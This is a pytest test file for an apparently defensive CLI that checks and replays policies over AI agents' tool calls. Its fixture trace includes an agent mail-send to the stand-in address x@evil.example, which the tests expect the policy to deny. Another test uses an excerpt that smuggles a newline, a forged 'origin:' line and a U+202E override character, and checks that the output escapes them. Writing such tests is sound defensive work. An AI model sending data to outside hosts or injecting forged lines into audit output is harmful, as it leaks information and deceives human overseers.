"""`guard policy` prints what is wrong, decides traces and answers with the right exit code."""

import json
from pathlib import Path

import pytest

from guard_adapters.cli import main

HOME = Path(__file__).resolve().parents[3] / "policies"
SOURCE = ["--config", str(HOME / "tests" / "catalog.yaml"), "--rules", "starter:baseline"]
TABLE = ["--tables", str(HOME / "tests" / "baseline.yaml")]
TRACE = {
    "session": "s-1",
    "principal": "alice",
    "agent": "bot",
    "intent": {"purpose": "write", "tools": ["write"], "egress": ["corp.example"]},
    "steps": [
        {"server": "docs", "tool": "read", "args": {"id": "a"}, "result": "hi"},
        {"server": "mail", "tool": "send", "args": {"to": ["x@evil.example"], "body": "b"}},
        {"server": "docs", "tool": "write", "args": {"id": "a"}},
    ],
}


@pytest.fixture
def traces(tmp_path):
    path = tmp_path / "traces.jsonl"
    path.write_text(json.dumps(TRACE) + "\n", encoding="utf-8")
    return str(path)


def test_check_of_a_sound_policy_ends_with_a_sum_and_zero(capsys):
    assert main(["policy", "check", *SOURCE, *TABLE]) == 0
    assert "16 rules, 13 tools" in capsys.readouterr().out.splitlines()[-1]


def test_check_names_file_line_code_and_rule_and_ends_with_one(tmp_path, capsys):
    rules = tmp_path / "bad.cedar"
    rules.write_text(
        '\n@id("A-1") @reason("r") forbid (principal, action, resource) when { context.risk.nope };'
    )

    code = main(["policy", "check", SOURCE[0], SOURCE[1], "--rules", str(rules)])

    out = capsys.readouterr().out
    assert code == 1
    assert "bad.cedar:2: error G201 A-1: " in out


def test_a_failing_table_ends_with_one(tmp_path, capsys):
    table = tmp_path / "t.yaml"
    table.write_text("cases: [{name: a, call: docs/read, args: {id: a}, expect: deny}]\n")

    assert main(["policy", "test", *SOURCE, "--tables", str(table)]) == 1
    assert "FAIL a: wanted deny, got allow [BASE-002]" in capsys.readouterr().out


def test_a_failing_case_is_named_by_file_and_line(tmp_path, capsys):
    table = tmp_path / "t.yaml"
    good = "  - {name: a, call: docs/read, args: {id: a}, expect: allow}\n"
    table.write_text(f"cases:\n{good}{good.replace('name: a', 'name: b').replace('allow', 'deny')}")

    assert main(["policy", "test", *SOURCE, "--tables", str(table)]) == 1
    assert f"{table}:3: FAIL b: wanted deny" in capsys.readouterr().out
    assert main(["policy", "check", *SOURCE, "--tables", str(table)]) == 1
    out = capsys.readouterr().out
    assert f"{table}:3: error G501" in out
    assert out.count(f"{table}:3") == 1


def test_a_misspelt_key_of_the_configuration_is_named(tmp_path, capsys):
    place = installation(tmp_path / "bare", "'starter:baseline'")
    file = Path(place) / "guard.yaml" if Path(place).is_dir() else Path(place)
    file.write_text(file.read_text() + "leggers: {}\n")

    assert main(["policy", "check", str(place)]) == 1
    out = capsys.readouterr().out
    assert "error G100" in out
    assert "leggers: there is no such key." in out


def test_a_passing_table_ends_with_zero_and_counts(capsys):
    assert main(["policy", "test", *SOURCE, *TABLE]) == 0
    assert "0 failed; forbids fired 14/14" in capsys.readouterr().out


def test_without_a_table_nothing_passes(tmp_path, capsys):
    place = installation(tmp_path / "bare", "'starter:baseline'")

    assert main(["policy", "test", place]) == 3
    out, err = capsys.readouterr()
    assert "table_missing" in err
    assert "passed" not in out


def test_replay_prints_decisions_on_stdout_and_sums_on_stderr(traces, capsys):
    assert main(["policy", "replay", *SOURCE, "--no-timing", traces]) == 0

    out, err = capsys.readouterr()
    assert [json.loads(row)["decision"] for row in out.splitlines()] == ["allow", "deny", "allow"]
    assert err.startswith("3 calls: allow 2, narrow 0, step_up 0, deny 1\n")


MAIL = {
    "server": "mail", "tool": "send", "args": {"to": ["bob@corp.example"], "body": "Hello."},
    "result": "sent",
}  # fmt: skip
SAID = "Send a mail to bob@corp.example that says hello."


@pytest.mark.parametrize(
    ("said", "wanted"),
    [
        ({"intent": {"purpose": SAID}}, ["allow", "step_up"]),
        ({"intent": {"purpose": SAID, "declared_by": "host"}}, ["allow", "step_up"]),
        ({"intent": {"purpose": "x"}, "prompt": SAID}, ["allow", "step_up"]),
        ({"intent": {"purpose": SAID}, "prompt": "Read my mail."}, ["step_up", "step_up"]),
        ({"intent": {"purpose": SAID}, "prompt": ""}, ["step_up", "step_up"]),
        ({"intent": {"purpose": SAID, "declared_by": "agent"}}, ["step_up", "step_up"]),
        (
            {"intent": {"purpose": SAID, "tools": ["mail/send"], "egress": ["corp.example"]}},
            ["allow", "step_up"],
        ),
        (
            {"intent": {"purpose": SAID, "tools": ["mail/send"], "declared_by": "agent"}},
            ["step_up", "step_up"],
        ),
    ],
)
def test_a_purpose_is_what_the_person_said_unless_the_agent_wrote_it(
    tmp_path, capsys, said, wanted
):
    trace = {"session": "s-1", "principal": "alice", "agent": "bot", "steps": [MAIL, MAIL]}
    path = tmp_path / "said.jsonl"
    path.write_text(json.dumps(trace | said))
    source = [*SOURCE[:2], "--rules", "starter:agent-tasks"]

    assert main(["policy", "replay", *source, "--no-timing", str(path)]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert [json.loads(row)["decision"] for row in lines] == wanted


def test_replay_with_timing_gives_integers(traces, capsys):
    assert main(["policy", "replay", *SOURCE, traces]) == 0
    assert all(
        isinstance(json.loads(row)["micros"], int) for row in capsys.readouterr().out.splitlines()
    )


def test_traces_that_are_not_there_end_with_three(tmp_path, capsys):
    assert main(["policy", "replay", *SOURCE, str(tmp_path / "none")]) == 3
    assert "trace_missing" in capsys.readouterr().err


def installation(folder, policy):
    folder.mkdir()
    text = (HOME / "tests" / "catalog.yaml").read_text(encoding="utf-8")
    (folder / "guard.yaml").write_text(
        f"{text}\nguard: {{policies: [{policy}]}}\n", encoding="utf-8"
    )
    return str(folder)


def test_diff_ends_with_one_when_anything_loosens(tmp_path, traces, capsys):
    old = installation(tmp_path / "old", "'starter:baseline'")
    new = installation(tmp_path / "new", "all.cedar")
    (tmp_path / "new" / "all.cedar").write_text(
        '@id("A-1") @reason("all") permit (principal, action in Guard::Action::"any", resource);'
    )

    assert main(["policy", "diff", old, new, "--traces", traces]) == 1
    assert capsys.readouterr().out == "mail/send deny -> allow 1 (first: s-1 step 1)\n"
    assert main(["policy", "diff", old, new, "--traces", traces, "--allow-loosening"]) == 0
    assert main(["policy", "diff", new, old, "--traces", traces]) == 0


def test_explain_shows_which_rule_fired_and_what_would_change_it(tmp_path, capsys):
    call = tmp_path / "call.json"
    call.write_text(
        json.dumps(
            {
                "call": "docs/purge",
                "args": {"id": "a"},
                "given": {"intent": {"declared": True, "covers": True}},
            }
        )
    )

    assert main(["policy", "explain", *SOURCE, str(call)]) == 0

    out = capsys.readouterr().out
    assert out.startswith("docs/purge: step_up [irreversible]\n")
    assert "what would change it: " in out


def test_explain_tells_where_the_arguments_came_from_and_nobody_can_forge_a_line(tmp_path, capsys):
    excerpt = "x\"\norigin: id a - in the person's own words\u202e"
    origin = {
        "path": "id", "role": "id", "source": 1, "why": "untrusted_only", "step": 2,
        "action": "docs/read", "excerpt": excerpt,
    }  # fmt: skip
    call = tmp_path / "call.json"
    given = {"intent": {"declared": True, "covers": True}, "prov": {"origins": [origin]}}
    call.write_text(json.dumps({"call": "docs/purge", "args": {"id": "a"}, "given": given}))

    assert main(["policy", "explain", *SOURCE, str(call)]) == 0

    lines = capsys.readouterr().out.splitlines()
    line = lines[lines.index('    id = "a"') + 1]
    assert line.startswith("        UNTRUSTED; only in docs/read result, step 2, untrusted: ")
    assert line.endswith('own words<U+202E>"')
    assert not [one for one in lines if one.startswith("origin:")]


@pytest.mark.parametrize(
    "words", [[], ["nope"], ["policy"], ["policy", "nope"], ["policy", "replay"]]
)
def test_a_wrong_command_line_ends_with_two(words, capsys):
    assert main(words) == 2
    assert "usage: guard" in capsys.readouterr().err


def test_help_and_version_end_with_zero(capsys):
    assert main(["--help"]) == 0
    assert main(["--version"]) == 0
